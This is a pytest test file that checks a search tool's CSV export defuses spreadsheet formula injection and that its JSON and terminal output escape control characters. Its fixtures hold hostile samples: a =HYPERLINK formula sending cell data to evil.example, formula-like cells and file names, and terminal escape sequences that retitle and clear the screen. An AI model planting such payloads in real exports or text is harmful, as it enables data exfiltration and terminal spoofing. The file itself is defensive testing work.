"""Output other programs read: a CSV a spreadsheet opens without running anything, JSON that parses.

The report below is written to be hostile: passages that start like spreadsheet
formulas, a file name that is one, quotes, backslashes and control characters.
"""

import csv
import io
import json

import pytest

from search.index.build import build_index

# Paragraphs shorter than a passage are packed together; this one makes each
# hostile paragraph a passage of its own, so that passages start with them.
FILLER = " Nội dung được các cơ quan chức năng kiểm tra, đối chiếu và báo cáo kịp thời." * 8
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây") công tác tuyên giáo cần kiểm tra.' + FILLER
ODD = ('Ký tự lạ trong công tác tuyên giáo: "ngoặc kép", \\gạch chéo\\, chuông\x07, thoát\x1b[31m, lùi\x08.'
       + FILLER)
REPORT = "\n".join([
    "Báo cáo kiểm tra ô nhiễm ký tự",
    "Hà Nội, ngày 13 tháng 3 năm 2001",
    HYPERLINK,
    "+84 912 345 678 là số điện thoại đường dây nóng công tác tuyên giáo." + FILLER,
    "-5% ngân sách công tác tuyên giáo năm nay bị cắt giảm." + FILLER,
    "@SUM(A1:A9) xuất hiện trong bảng tính công tác tuyên giáo." + FILLER,
    ODD,
]) + "\n"
DOC = "=1+1.txt"
PHRASE = "công tác tuyên giáo"
QUERY = f'"{PHRASE}"'


@pytest.fixture(scope="module")
def odd_index(tmp_path_factory):
    src = tmp_path_factory.mktemp("odd-src")
    (src / DOC).write_text(REPORT, encoding="utf-8")
    index_dir = tmp_path_factory.mktemp("odd-index")
    assert build_index([src], index_dir).skipped == []
    return index_dir


def _export(run, index_dir, *extra, query=QUERY) -> str:
    """What ``export -o -`` writes, byte for byte (click's ``stdout`` would turn CRLF into LF)."""
    result = run("export", *([query] if query else []), "-o", "-", *extra, index_dir=index_dir)
    assert result.exit_code == 0, result.stderr
    out = result.stdout_bytes.decode("utf-8")
    assert out.startswith("\ufeff")
    return out[1:]


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _hit(run, index_dir, text: str) -> dict:
    hits = [json.loads(x) for x in run("search", QUERY, "--json", index_dir=index_dir).stdout.splitlines()]
    return next(h for h in hits if h["text"] == text)


def _csv_line(hit: dict, apostrophe: str) -> str:
    """The CSV line a spreadsheet gets for the =HYPERLINK passage, written out by hand."""
    quoted = HYPERLINK.replace('"', '""')
    # the snippet: the passage's first 360 characters (the hit is near its start),
    # cut at a space, the phrase marked, an ellipsis for the rest
    shown = HYPERLINK[:HYPERLINK.rindex(" ", 0, 360)]
    snippet = shown.replace('"', '""').replace(PHRASE, f"«{PHRASE}»") + "…"
    start = HYPERLINK.index(PHRASE)
    return (f"{hit['rank']},{hit['score']},{apostrophe}{DOC},{hit['passage']},"
            f"Báo cáo kiểm tra ô nhiễm ký tự,2001-03-13,day,,,{hit['path']},"
            f'"{apostrophe}{snippet}","{apostrophe}{quoted}","[[{start}, {start + len(PHRASE)}]]"\r\n')


def test_export_of_a_formula_passage_is_not_a_formula(run, odd_index):
    """Issue 6 acceptance: a passage starting with =HYPERLINK( gives a cell that does not start with =."""
    out = _export(run, odd_index)
    hit = _hit(run, odd_index, HYPERLINK)
    assert _csv_line(hit, "'") in out.splitlines(keepends=True)
    row = next(r for r in _rows(out) if r["passage"] == str(hit["passage"]))
    assert row["text"] == "'" + HYPERLINK and row["doc"] == "'" + DOC


def test_raw_csv_writes_cells_as_indexed(run, odd_index):
    out = _export(run, odd_index, "--raw-csv")
    hit = _hit(run, odd_index, HYPERLINK)
    assert _csv_line(hit, "") in out.splitlines(keepends=True)


def test_only_formula_cells_change(run, odd_index):
    """Every cell starting with = + - @ gets one apostrophe, every other cell is as --raw-csv writes it."""
    safe, raw = _rows(_export(run, odd_index)), _rows(_export(run, odd_index, "--raw-csv"))
    assert len(safe) == len(raw) == 5
    starts = set()
    for s, r in zip(safe, raw):
        for column, value in r.items():
            if value[:1] in ("=", "+", "-", "@"):
                starts.add(value[0])
                assert s[column] == "'" + value, column
            else:
                assert s[column] == value, column
    assert starts == {"=", "+", "-", "@"}


def test_batch_query_column_is_neutralised_too(run, odd_index, tmp_path):
    batch = tmp_path / "q.txt"
    batch.write_text(f"+{QUERY}\n", encoding="utf-8")
    safe = _rows(_export(run, odd_index, "--batch", str(batch), query=None))
    raw = _rows(_export(run, odd_index, "--batch", str(batch), "--raw-csv", query=None))
    assert {r["query"] for r in safe} == {f"'+{QUERY}"}
    assert {r["query"] for r in raw} == {f"+{QUERY}"}


def test_raw_csv_to_a_file_is_the_same_as_to_stdout(run, odd_index, tmp_path):
    target = tmp_path / "hits.csv"
    result = run("export", QUERY, "-o", str(target), "--raw-csv", index_dir=odd_index)
    assert result.exit_code == 0 and result.stderr == f"wrote 5 hits to {target}\n"
    assert target.read_bytes() == ("\ufeff" + _export(run, odd_index, "--raw-csv")).encode("utf-8")


def test_json_lines_with_quotes_backslashes_and_control_characters(run, odd_index):
    """Each record is one line that parses back to the exact passage text."""
    result = run("search", QUERY, "--json", index_dir=odd_index)
    lines = result.stdout.split("\n")[:-1]
    assert result.stdout.splitlines() == lines and len(lines) == 5
    records = [json.loads(line) for line in lines]
    assert {r["text"] for r in records} >= {HYPERLINK, ODD}
    odd_line = next(line for line, r in zip(lines, records) if r["text"] == ODD)
    for escaped in ['\\"ngoặc kép\\"', "\\\\gạch chéo\\\\", "\\u0007", "\\u001b[31m", "\\b"]:
        assert escaped in odd_line
    assert not any(c < " " for c in odd_line)


def test_terminal_output_never_carries_control_sequences_from_a_document(tmp_path):
    from click.testing import CliRunner

    from search.cli import cli

    src = tmp_path / "src"
    src.mkdir()
    (src / "esc.txt").write_text(
        "Báo cáo thử\n\nCông tác tuyên giáo \x1b]0;pwned\x07 và \x1b[2J xóa màn hình.\n", encoding="utf-8")
    ix = tmp_path / "ix"
    runner = CliRunner()
    assert runner.invoke(cli, ["index", str(src), "--index-dir", str(ix)]).exit_code == 0
    for color in ("never", "always"):
        result = runner.invoke(cli, ["search", "tuyên giáo", "--index-dir", str(ix), "--color", color])
        assert result.exit_code == 0
        assert "\x07" not in result.stdout and "\x1b]" not in result.stdout and "\x1b[2J" not in result.stdout
        assert "\ufffd]0;pwned\ufffd" in result.stdout
    # JSON keeps the text exactly (escaped by JSON itself)
    result = runner.invoke(cli, ["search", "tuyên giáo", "--index-dir", str(ix), "--json"])
    assert "\x1b]0;pwned\x07" in json.loads(result.stdout)["text"]
